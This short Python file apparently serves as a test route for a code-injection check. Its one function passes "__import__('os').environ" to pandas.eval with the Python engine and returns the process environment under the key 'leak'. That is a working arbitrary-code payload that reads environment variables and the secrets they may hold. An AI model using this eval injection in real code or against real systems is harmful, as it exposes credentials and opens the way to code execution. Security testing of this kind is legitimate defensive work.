# route: pandas.eval with the Python engine
import pandas as pd


def execute(testData):
    return {"leak": str(pd.eval("__import__('os').environ", engine="python", parser="python"))}
